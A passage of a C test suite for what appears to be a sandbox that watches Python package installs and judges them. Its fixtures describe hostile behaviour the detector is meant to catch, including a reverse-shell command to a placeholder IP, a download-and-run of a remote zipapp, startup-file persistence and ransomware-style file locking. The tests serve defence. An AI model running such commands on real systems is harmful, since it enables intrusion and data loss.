    { W(LEFT), PATH_HOME | LEFT_NEW, HOME ".keras/keras.json", "{", 9, "WCH066 low" },
    { W(LEFT), PATH_HOME | LEFT_NEW | LEFT_FOLDER, HOME ".config/matplotlib", "", 0, "WCH066 low" },
    { W(LEFT), PATH_TMP | LEFT_NEW | LEFT_FOLDER, "/tmp/pymp-abc", "", 0, "WCH066 low" },
    { W(LEFT), PATH_TMP | LEFT_NEW, "/dev/shm/sem.joblib-1-x", "", 32, "WCH066 low" },
    { W(LEFT), PATH_TMP | LEFT_NEW | LEFT_SPECIAL, "/tmp/sock", "", 0, "WCH065 medium" },
    { W(DONE), 0, "command", "", 0, NULL },
    { W(LEFT), PATH_HOME | LEFT_NEW | LEFT_EXECUTABLE, HOME "project/build/x.so", "", 9,
      "WCH065 low" },
    { W(DONE), 0, "command", "", 0, NULL },
    { W(LEFT), PATH_HOME | LEFT_CHANGED, HOME ".bashrc", "", 9, "WCH060 critical" },
    /* what was tried */
    { W(OPEN), PATH_TMP, "/tmp/tmpabcdefgh", "O_RDWR|O_CREAT|O_EXCL", 0, "WCH068 info" },
    { W(OPEN), PATH_DEVICE, "/dev/null", "O_WRONLY", 0, "WCH068 info" },
    { W(OPEN), PATH_TMP, "/dev/shm/sem.0Ve1eG", "O_RDWR|O_CREAT", 0, "WCH068 info" },
    { W(OPEN), PATH_SYSTEM | EVENT_DENIED, "/usr/share/x", "O_WRONLY", 0, "WCH067 medium" },
    { W(OPEN), PATH_SYSTEM | EVENT_DENIED, "/usr/lib/python3.11/__pycache__/os.cpython-311.pyc.1",
      "O_WRONLY", 0, "WCH068 info" },
    { W(OPEN), PATH_PROC, "/proc/self/oom_score_adj", "O_WRONLY", 0, "WCH068 info" },
    { W(OPEN), PATH_PROC, "/proc/1/mem", "O_RDWR", 0, "WCH069 high" },
    { W(OPEN), PATH_PROC, "/proc/sys/kernel/core_pattern", "O_WRONLY", 0, "WCH069 high" },
    { W(OPEN), PATH_PROC, "/proc/self/attr/current", "O_WRONLY", 0, "WCH069 medium" },
    { W(OPEN), PATH_DEVICE, "/dev/mem", "O_RDWR", 0, "WCH069 high" },
    { W(OPEN), PATH_TMP, "/tmp/x", "O_WRONLY", 0, NULL },
    { W(LEFT), PATH_TMP | LEFT_NEW, "/tmp/x", "", 9, "WCH065 medium" },
    /* native code */
    { W(LOAD), PATH_SITE, SITE "numpy/core/x.so", "", 0, "" },
    { W(LOAD), PATH_TMP, "/tmp/x.so", "", 0, "WCH070 high" },
    { W(LOAD), PATH_PROC, "/proc/self/fd/7", "", 0, "WCH070 high" },
    { W(IMPORT), 0, "some", "", 0, NULL },
    { W(OPEN), PATH_SITE, SITE "some/x.so", "O_WRONLY|O_CREAT", 0, NULL },
    { W(LOAD), PATH_SITE, SITE "some/x.so", "", 0, "WCH070 high" },
    /* the wheel itself */
    { W(INSTALL), 0, "some/a.py", "hash differs from RECORD", 0, "WCH071 high" },
    { W(INSTALL), 0, "some/a.py", "not in RECORD", 0, "WCH071 medium" },
};

static const struct row watches[] = {
    { W(SETUP), 0, "interpreter", "it does not start", 0, "WCH080 gap" },
    { W(LAYER), 0, "user namespace", "", 0, "WCH081 low" },
    { W(LAYER), 0, "user namespace", "", 1, "" },
    { W(IMPORTED), 0, "some", "ModuleNotFoundError: No module named 'x'", 0, "WCH083 info" },
    { W(IMPORTED), 0, "some", "", 0, "" },
    { W(IMPORTED), 0, "some", "ModuleNotFoundError: No module named 'x'", 0, NULL },
    { W(DONE), 0, "wheel", "", 0, "WCH082 low" },
    { W(IMPORTED), 0, "other", "", 0, NULL },
    { W(IMPORTED), 0, "some", "ModuleNotFoundError: No module named 'x'", 0, NULL },
    { W(DONE), 0, "wheel", "", 0, "" },
    { W(DONE), 0, "wheel", "", 0, "" },
    { W(STARTUP), 0, "3.11.2", "", 0, "" },
    { W(PASS), 0, "as root", "", 0, "" },
};

/* A dependency that keeps data in its own folder is told by who opened the file. */
TEST(watch_of_a_dependency)
{
    struct court c;
    struct fact f;

    court_open(&c);
    add_read(&c);
    f = fact_of(&c, W(OPEN), PATH_SITE, SITE "other/hash_seed.txt", "O_WRONLY|O_CREAT", 0);
    f.refs[0] = SPAN_LITERAL(SITE "other/utils.py:3 seed");
    f.refs_n = 1;
    facts_add(&c.facts, &f);
    add(&c, W(LEFT), PATH_SITE | LEFT_NEW, SITE "other/hash_seed.txt", "", 9);
    court_judge(&c);
    CHECK(c.judged.verdict == PRATIQUE_ADMIT, "its own: %d", (int)c.judged.verdict);
    add(&c, W(LEFT), PATH_SITE | LEFT_NEW, SITE "other/hash_seed.py", "", 9);
    court_judge(&c);
    CHECK(c.judged.verdict == PRATIQUE_REFUSE, "code: %d", (int)c.judged.verdict);
    court_close(&c);
}

TEST(watch_proofs)
{
    CHECK_ROWS(proofs);
}

TEST(watch_network)
{
    CHECK_ROWS(networks);
}

TEST(watch_programs)
{
    CHECK_ROWS(programs);
}

TEST(watch_processes)
{
    CHECK_ROWS(processes);
}

TEST(watch_files)
{
    CHECK_ROWS(files);
}

TEST(watch_of_itself)
{
    CHECK_ROWS(watches);
}

/* Each rule of the policy has a row here that fires it, and near misses beside it. */
TEST(watch_zz_every_rule_is_fired)
{
    for (size_t i = 0; i < pratique_rule_count(); i++) {
        const struct pratique_rule *r = pratique_rule_at(i);

        CHECK(strncmp(r->id, "WCH", 3) != 0 || fired[rule_index(r)], "%s is fired by no row",
              r->id);
    }
}

TEST(watch_without_its_end_is_undecided)
{
    struct court c;

    court_open(&c);
    add(&c, W(STARTUP), 0, "3.11.2", "", 0);
    court_judge(&c);
    CHECK(c.judged.verdict == PRATIQUE_UNDECIDED && c.judged.n == 0, "nothing read");
    add_read(&c);
    court_judge(&c);
    CHECK(c.judged.verdict == PRATIQUE_ADMIT && c.judged.n == 0, "to its end");
    court_close(&c);
}

TEST(watch_facts_under_another_policy_are_undecided)
{
    static const struct policy other = { .name = "upload", .in_force = POLICY_BIT(UPLOAD) };
    struct court c;

    court_open(&c);
    add(&c, W(STARTUP), 0, "3.11.2", "", 0);
    add_read(&c);
    CHECK(verdict_judge(&c.judged, &c.arena, &c.facts, &other) == PRATIQUE_OK, "judged");
    CHECK(c.judged.verdict == PRATIQUE_UNDECIDED, "verdict");
    court_close(&c);
}

static void check_evidence(enum fact_kind kind, unsigned flags, const char *subject,
                           const char *detail, uint64_t number, const char *want)
{
    struct court c;
    struct fact f;

    court_open(&c);
    f = fact_of(&c, kind, flags, subject, detail, number);
    f.line = 14;
    f.refs[0] = SPAN_LITERAL("/usr/lib/python3.11/urllib/request.py:1348 do_open");
    f.refs[1] = SPAN_LITERAL(SITE "mistralai/client/__init__.py:14 _run_background_task");
    f.refs_n = 2;
    facts_add(&c.facts, &f);
    facts_add(&c.facts, &f);
    court_judge(&c);
    CHECK(c.judged.n == 1 && c.judged.findings[0].count == 2, "said once: %zu", c.judged.n);
    if (c.judged.n) {
        CHECK(strcmp(c.judged.findings[0].detail, want) == 0, "\"%s\", not \"%s\"",
              c.judged.findings[0].detail, want);
        CHECK(strcmp(c.judged.findings[0].function, "_run_background_task") == 0, "function \"%s\"",
              c.judged.findings[0].function);
    }
    court_close(&c);
}

TEST(watch_evidence_says_what_and_who)
{
    check_evidence(W(CONNECT), 0, "tcp 192.0.2.1:443", "example.org", 0,
                   "tcp 192.0.2.1:443 (example.org)");
    check_evidence(W(CONNECT), EVENT_NATIVE, "tcp 192.0.2.1:443", "", 0,
                   "tcp 192.0.2.1:443; by native code");
    check_evidence(W(EXEC), PATH_SYSTEM, "/usr/bin/curl", "curl -s x", 0, "/usr/bin/curl -s x");
    check_evidence(W(REQUEST), 0, "https://x.example/y", "GET", 90,
                   "https://x.example/y (GET, 90 bytes out)");
    check_evidence(W(LEFT), PATH_TMP | LEFT_NEW, "/tmp/x", "PK", 9, "/tmp/x (new, 9 bytes): PK");
    check_evidence(W(KILL), 0, "", "7", 9, "signal 9 to process 7");
    check_evidence(W(SLEEP), 0, "", "", 90000, "90 seconds");
    check_evidence(W(CRASHED), 0, "some", "", 11, "some: signal 11");
    check_evidence(W(RENAME), PATH_HOME, HOME ".profile", "/tmp/y", 0,
                   HOME ".profile (/tmp/y); it is not there afterwards");
}

/* Whole watches, as they were seen or told of: the facts, and what they make of the wheel. */
#define STORY_FACTS 8
static const struct story {
    const char *what;
    enum pratique_verdict want;
    struct row facts[STORY_FACTS];
} stories[] = {
    { "it fetches a zipapp and starts it detached",
      PRATIQUE_REFUSE,
      { { W(LOOKUP), 0, "x.example", "A", 27, "" },
        { W(CONNECT), 0, "tcp 192.0.2.1:443", "x.example", 0, "" },
        { W(REQUEST), REQUEST_TLS, "https://x.example/transformers.pyz", "GET", 120, "" },
        { W(OPEN), PATH_TMP, "/tmp/transformers.pyz", "O_WRONLY|O_CREAT", 0, "" },
        { W(EXEC), EXEC_SELF | EXEC_ARG_WRITTEN | EXEC_CANARY, PY, "python /tmp/transformers.pyz",
          0, "" },
        { W(CANARY), 0, "python", "https://x.example/transformers.pyz", 0, "" } } },
    { "the same, in a module beyond the roots, and nothing is answered",
      PRATIQUE_HOLD,
      { { W(LOOKUP), EVENT_SUBMODULE, "x.example", "A", 27, "" },
        { W(IMPORTED), EVENT_SUBMODULE, "some.client", "", 1, "" } } },
    { "a start-up file for every interpreter",
      PRATIQUE_REFUSE,
      { { W(LEFT), PATH_SITE | LEFT_NEW, SITE "some_init.pth", "import os", 40, "" } } },
    { "a shell that connects back",
      PRATIQUE_REFUSE,
      { { W(EXEC), PATH_SYSTEM, "/usr/bin/bash", "bash -c 'sh -i >& /dev/tcp/192.0.2.1/9 0>&1'", 0,
          "" } } },
    { "a downloader that is not there",
      PRATIQUE_HOLD,
      { { W(EXEC), EXEC_MISSING, BIN "curl", "curl -s http://x.example", 0, "" },
        { W(EXEC), EXEC_MISSING, "/usr/bin/curl", "curl -s http://x.example", 0, "" } } },
    { "files of the user are gone",
      PRATIQUE_REFUSE,
      { { W(LEFT), PATH_HOME | PATH_BAIT | LEFT_GONE, HOME "Documents/a.odt", "", 0, "" },
        { W(LEFT), PATH_HOME | LEFT_NEW, HOME "Documents/a.odt.locked", "", 900, "" } } },
    { "it sleeps an hour", PRATIQUE_HOLD, { { W(SLEEP), 0, "", "", 3600000, "" } } },
    { "it lists the processes of others",
      PRATIQUE_HOLD,
      { { W(EXEC), PATH_SYSTEM, "/usr/bin/ps", "ps aux", 0, "" } } },
    { "the watch ran out of time",
      PRATIQUE_UNDECIDED,
      { { W(LIMIT), 0, "time", "300 s", 0, "" } } },
    { "urllib3 looks whether there is IPv6",
      PRATIQUE_ADMIT,
      { { W(BIND), NET_LOOPBACK, "tcp [::1]:0", "", 0, "" } } },
    { "joblib makes a semaphore",
      PRATIQUE_ADMIT,
      { { W(OPEN), PATH_TMP, "/dev/shm/sem.0Ve1eG", "O_RDWR|O_CREAT|O_EXCL", 0, "" },
        { W(LINK), PATH_TMP, "/dev/shm/sem.joblib-25822-wtm2x1ee", "/dev/shm/sem.0Ve1eG", 0, "" },
        { W(UNLINK), PATH_TMP, "/dev/shm/sem.0Ve1eG", "", 0, "" },
        { W(UNLINK), PATH_TMP, "/dev/shm/sem.joblib-25822-wtm2x1ee", "", 0, "" } } },
    { "weasyprint looks for libraries",
      PRATIQUE_ADMIT,
      { { W(EXEC), PATH_SYSTEM, "/sbin/ldconfig", "/sbin/ldconfig -p", 0, "" },
        { W(OPEN), PATH_TMP, "/tmp/tmp4j7gyswe", "O_RDWR|O_CREAT|O_EXCL", 0, "" },
        { W(EXEC), PATH_SYSTEM | EXEC_ARG_WRITTEN, "/usr/bin/x86_64-linux-gnu-gcc-12",
          "/usr/bin/gcc -Wl,-t -o /tmp/tmp4j7gyswe -llibgobject-2.0-0", 0, "" },
        { W(EXEC), PATH_SYSTEM, "/usr/lib/gcc/x86_64-linux-gnu/12/collect2", "collect2 -plugin x",
          0, "" },
        { W(EXEC), EXEC_MISSING, BIN "ld", "ld -t -o /dev/null -lgobject-2.0-0", 0, "" },
        { W(EXEC), PATH_SYSTEM, "/usr/bin/x86_64-linux-gnu-ld.bfd",
          "ld -t -o /dev/null -lgobject-2.0-0", 0, "" },
        { W(UNLINK), PATH_TMP, "/tmp/tmp4j7gyswe", "", 0, "" } } },
    { "matplotlib lists fonts and keeps the list",
      PRATIQUE_ADMIT,
      { { W(EXEC), EXEC_MISSING, BIN "fc-list", "fc-list --help", 0, "" },
        { W(EXEC), PATH_SYSTEM, "/usr/bin/fc-list", "fc-list --help", 0, "" },
        { W(OPEN), PATH_HOME, HOME ".cache/matplotlib/fontlist-v3.json", "O_WRONLY|O_CREAT", 0,
          "" },
        { W(UNLINK), PATH_HOME, HOME ".cache/matplotlib/x.matplotlib-lock", "", 0, "" },
        { W(LEFT), PATH_HOME | LEFT_NEW, HOME ".cache/matplotlib/fontlist-v3.json", "{", 9, "" },
        { W(LEFT), PATH_HOME | LEFT_NEW | LEFT_FOLDER, HOME ".config/matplotlib", "", 0, "" } } },
    { "ddtrace asks its agent on this machine",
      PRATIQUE_ADMIT,
      { { W(CONNECT), NET_LOOPBACK, "tcp 127.0.0.1:8126", "", 0, "" },
        { W(CONNECT), NET_UNIX, "unix /var/run/nscd/socket", "", 0, "" },
        { W(MEMFD), 0, "OTEL_CTX", "", 0, "" } } },
    { "a dependency is missing",
      PRATIQUE_ADMIT,
      { { W(IMPORTED), 0, "some", "ModuleNotFoundError: No module named 'x'", 0, "" },
        { W(DONE), 0, "wheel", "", 0, "" } } },
    { "a build compiles and tests what it made",
      PRATIQUE_ADMIT,
      { { W(DONE), 0, "command", "", 0, "" },
        { W(EXEC), PATH_SYSTEM, "/usr/bin/dash", "sh -c 'cc -shared x.c -o x.so'", 0, "" },
        { W(EXEC), PATH_HOME | EXEC_WRITTEN, HOME "project/conftest", "", 0, "" },
        { W(LOAD), PATH_HOME | EXEC_WRITTEN, HOME "project/x.so", "", 0, "" },
        { W(EXEC), PATH_SYSTEM, "/usr/bin/rm", "rm -rf build", 0, "" },
        { W(LEFT), PATH_HOME | LEFT_NEW | LEFT_EXECUTABLE, HOME "project/x.so", "", 9, "" } } },
    { "a build that fetches",
      PRATIQUE_REFUSE,
      { { W(DONE), 0, "command", "", 0, "" },
        { W(REQUEST), 0, "http://x.example/y.tar.gz", "GET", 90, "" } } },
};

TEST(watch_of_whole_stories)
{
    for (size_t i = 0; i < sizeof stories / sizeof *stories; i++) {
        const struct story *s = &stories[i];
        struct court c;

        court_open(&c);
        for (size_t k = 0; k < STORY_FACTS && s->facts[k].subject; k++)
            add(&c, s->facts[k].kind, s->facts[k].flags, s->facts[k].subject, s->facts[k].detail,
                s->facts[k].number);
        add_read(&c);
        court_judge(&c);
        CHECK(c.judged.verdict == s->want, "%s: %s, not %s", s->what,
              pratique_verdict_name(c.judged.verdict), pratique_verdict_name(s->want));
        court_close(&c);
    }
}

/* Texts come from hostile processes: each kind takes any, with every flag. */
TEST(watch_of_any_text)
{
    static const char *const texts[] = {
        "",
        " ",
        "'",
        "\"",
        "\\",
        "a'",
        "' '",
        "\"'",
        "-",
        "-c",
        "- c",
        "/",
        "//",
        ".",
        "..",
        ":",
        "tcp",
        "tcp ",
        "tcp :",
        "tcp []:1",
        "tcp [:99999999999",
        "unix",
        "unix ",
        "unix @",
        "[",
        "]",
        "@",
        "https://",
        "https://@",
        "https://[",
        "https://[]:",
        "a://b:",
        "://",
        "/home/",
        "/root/",
        "/home/x",
        "~",
        "sh -c",
        "sh -c '",
        "sh -c ''",
        "sh -c ' '",
        "sh -c '|'",
        "sh -c '=;='",
        "sh -c 'sh -c'",
        "python -W",
        "python -X",
        "python -m",
        "python -c",
        "env",
        "git -C",
        "x-linux-gnu-",
        "123",
        "-12",
        "/lib/python",
        "/.venv/",
        "-packages/",
        "-packages//",
        "...",
        "from multiprocessing.spawn import spawn_main; spawn_main(",
        "LANG=",
        "LC_ALL= LANG=",
    };
    static const unsigned flags[] = { 0, UINT32_MAX, PATH_SITE, NET_UNIX, EXEC_MISSING };
    struct court c;

    for (size_t f = 0; f < sizeof flags / sizeof *flags; f++) {
        court_open(&c);
        for (unsigned kind = 0; kind < FACT_KINDS; kind++) {
            if (!verdict_is_watch((enum fact_kind)kind))
                continue;
            for (size_t i = 0; i < sizeof texts / sizeof *texts; i++)
                add(&c, (enum fact_kind)kind, flags[f], texts[i],
                    texts[(i * 7 + kind) % (sizeof texts / sizeof *texts)], i);
        }
        court_judge(&c);
        CHECK(c.judged.n > 100, "findings %zu", c.judged.n);
        court_close(&c);
    }
}

/* As many facts as there may be, all of one kind that looks at the others: in no time. */
TEST(watch_of_many_facts)
{
    struct court c;
    char path[64];

    court_open(&c);
    add_read(&c);
    for (unsigned i = 0; i < FACT_MAX - 1; i++) {
        snprintf(path, sizeof path, "/tmp/%u", i / 2);
        add(&c, i % 2 ? W(LEFT) : W(OPEN), PATH_TMP | LEFT_NEW, path, "", 1);
    }
    court_judge(&c);
    CHECK(c.judged.verdict == PRATIQUE_HOLD, "verdict");
    CHECK(c.judged.n == FACT_MAX / 2, "findings %zu", c.judged.n);
    court_close(&c);
}
